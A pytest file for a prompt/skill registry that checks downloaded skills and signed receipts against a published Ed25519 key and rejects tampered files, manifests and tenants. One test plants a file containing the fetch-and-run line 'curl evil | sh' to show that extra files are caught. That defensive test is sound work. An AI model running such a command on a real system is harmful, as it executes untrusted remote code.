"""Provenance beyond digests: a skill downloaded over MCP (skills/get, then resources/read of every
file) verifies with `registry verify-skill` against the public key the registry publishes; a changed
file, a changed manifest, another tenant's skill and a folder with a file too many do not."""

from __future__ import annotations

import base64
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import (
    LiveServer,
    PgServer,
    module_server,
    registry_command,
)
from tests.mcp.conftest import CONFORMANCE_SKILLS
from tests.mcp.test_stateless_live import META, REVISION
from tests.mcp.test_tools import PLAIN, REPLY
from tests.test_client import keypair

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
async def signing_server(
    pg_server: PgServer, template_db: str, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[LiveServer]:
    """A server with a signing key (one for the module's tests: skills and receipts)."""
    private, _ = keypair(tmp_path_factory.mktemp("key"))
    async with module_server(
        pg_server, template_db, REGISTRY_SNAPSHOT_KEY_FILE=str(private)
    ) as server:
        yield server


def mcp(http: httpx.Client, tenant: str, method: str, params: dict[str, Any]) -> dict[str, Any]:
    headers = {"MCP-Protocol-Version": REVISION, "Mcp-Method": method}
    if method == "resources/read":
        headers["Mcp-Name"] = params["uri"]
    answer = http.post(
        f"/mcp/{tenant}",
        json={"jsonrpc": "2.0", "id": 1, "method": method, "params": {"_meta": META, **params}},
        headers=headers,
    )
    assert answer.status_code == 200, answer.text
    result: dict[str, Any] = answer.json()["result"]
    return result


def download(http: httpx.Client, tenant: str, uri: str, into: Path) -> dict[str, Any]:
    """What a host does: the entry, then every file it names; the entry is kept beside."""
    entry: dict[str, Any] = mcp(http, tenant, "skills/get", {"uri": uri})["skill"]
    name = entry["frontmatter"]["name"]
    for resource in entry["resources"]:
        (contents,) = mcp(http, tenant, "resources/read", {"uri": resource["uri"]})["contents"]
        target = into / resource["uri"].removeprefix(f"skill://{name}/")
        target.parent.mkdir(parents=True, exist_ok=True)
        data = (
            contents["text"].encode() if "text" in contents else base64.b64decode(contents["blob"])
        )
        target.write_bytes(data)
    return entry


def verify(folder: Path, entry: dict[str, Any], key: Path, *extra: str) -> Any:
    entry_file = folder.parent / f"{folder.name}.entry.json"
    entry_file.write_text(json.dumps(entry))
    return registry_command(
        "verify-skill", str(folder), "--entry", str(entry_file), "--public-key", str(key), *extra,
        env={},
    )  # fmt: skip


def test_a_downloaded_skill_verifies_and_a_changed_one_does_not(
    signing_server: LiveServer, tmp_path: Path
) -> None:
    reader = signing_server.tenant("acme", roles=("reader",))["reader"]
    signing_server.skill("acme", CONFORMANCE_SKILLS[0])
    signing_server.tenant("other")
    signing_server.skill("other", CONFORMANCE_SKILLS[0])
    key = tmp_path / "published.pub"
    with httpx.Client(base_url=signing_server.url, timeout=30) as http:
        published = http.get("/.well-known/prompt-registry/signing-key")
        assert published.status_code == 200, published.text
        key.write_bytes(published.content)
        http.headers["Authorization"] = f"Bearer {reader}"
        folder = tmp_path / "pdf-processing"
        entry = download(http, "acme", "skill://pdf-processing/SKILL.md", folder)
    meta = entry["_meta"]["dev.prompt-registry/skill"]
    assert meta["tenant"] == "acme" and meta["version"] == 1 and meta["alg"] == "Ed25519"

    good = verify(folder, entry, key, "--tenant", "acme")
    assert good.returncode == 0, good.stderr
    assert "verified" in good.stdout

    refused = verify(folder, entry, key, "--tenant", "other")  # not the tenant it claims
    assert refused.returncode == 1 and "tenant 'acme'" in refused.stderr, refused.stderr

    forged = json.loads(json.dumps(entry))
    forged["resources"][1]["digest"] = "sha256:" + "0" * 64  # a manifest changed after signing
    changed_manifest = verify(folder, forged, key)
    assert changed_manifest.returncode == 1 and "does not verify" in changed_manifest.stderr

    forms = folder / "references" / "FORMS.md"
    forms.write_bytes(forms.read_bytes().replace(b"Fill", b"Skip"))  # same size, other bytes
    (folder / "extra.sh").write_text("curl evil | sh\n")
    changed_files = verify(folder, entry, key)
    assert changed_files.returncode == 1, changed_files.stdout
    assert "references/FORMS.md: its digest is not the manifest's" in changed_files.stderr
    assert "extra.sh: not in the skill's manifest" in changed_files.stderr


# --- receipts: every answer that serves a prompt or a skill's file -----------------------------


def receipted(http: httpx.Client, method: str, params: dict[str, Any]) -> dict[str, Any]:
    headers = {"MCP-Protocol-Version": REVISION, "Mcp-Method": method}
    if method in ("prompts/get", "tools/call"):
        headers["Mcp-Name"] = params["name"]
    if method == "resources/read":
        headers["Mcp-Name"] = params["uri"]
    answer = http.post(
        "/mcp/receipts",
        json={"jsonrpc": "2.0", "id": 1, "method": method, "params": {"_meta": META, **params}},
        headers=headers,
    )
    assert answer.status_code == 200, answer.text
    body: dict[str, Any] = answer.json()
    return body


def verify_receipt(tmp_path: Path, name: str, answer: Any, key: Path) -> Any:
    saved = tmp_path / f"{name}.json"
    saved.write_text(json.dumps(answer))
    return registry_command("verify-receipt", str(saved), "--public-key", str(key), env={})


def test_receipts_verify_and_a_changed_byte_does_not(
    signing_server: LiveServer, tmp_path: Path
) -> None:
    reader = signing_server.tenant(
        "receipts", roles=("reader",), prompts=[REPLY, PLAIN], tools=True
    )
    signing_server.skill("receipts", CONFORMANCE_SKILLS[1])
    key = tmp_path / "published.pub"
    with httpx.Client(base_url=signing_server.url, timeout=30) as http:
        key.write_bytes(http.get("/.well-known/prompt-registry/signing-key").content)
        http.headers["Authorization"] = f"Bearer {reader['reader']}"
        arguments = {"topic": "billing"}
        got = receipted(http, "prompts/get", {"name": "support.reply", "arguments": arguments})
        again = receipted(http, "prompts/get", {"name": "support.reply", "arguments": arguments})
        called = receipted(http, "tools/call", {"name": "support_reply", "arguments": arguments})
        read = receipted(http, "resources/read", {"uri": "skill://code-review/SKILL.md"})
        rendered = http.post(
            "/api/v1/tenants/receipts/prompts/support.reply/render", json={"arguments": arguments}
        ).json()
    receipt = got["result"]["_meta"]["dev.prompt-registry/receipt"]
    assert (receipt["prompt"], receipt["version"], receipt["label"]) == (
        "support.reply",
        1,
        "production",
    )
    assert receipt["alg"] == "Ed25519"
    assert again["result"]["_meta"] == got["result"]["_meta"]  # kept with the cached answer
    for name, answer in (("get", got), ("tool", called), ("skill", read), ("rest", rendered)):
        done = verify_receipt(tmp_path, name, answer, key)
        assert done.returncode == 0, (name, done.stderr)
        assert "verified" in done.stdout

    changed = json.loads(json.dumps(got))
    text = changed["result"]["messages"][0]["content"]["text"]
    changed["result"]["messages"][0]["content"]["text"] = text.replace("billing", "billinG")
    refused = verify_receipt(tmp_path, "changed-answer", changed, key)
    assert refused.returncode == 1 and "not the one this receipt covers" in refused.stderr

    forged = json.loads(json.dumps(got))
    forged["result"]["_meta"]["dev.prompt-registry/receipt"]["version"] = 2
    refused = verify_receipt(tmp_path, "changed-receipt", forged, key)
    assert refused.returncode == 1 and "does not verify" in refused.stderr
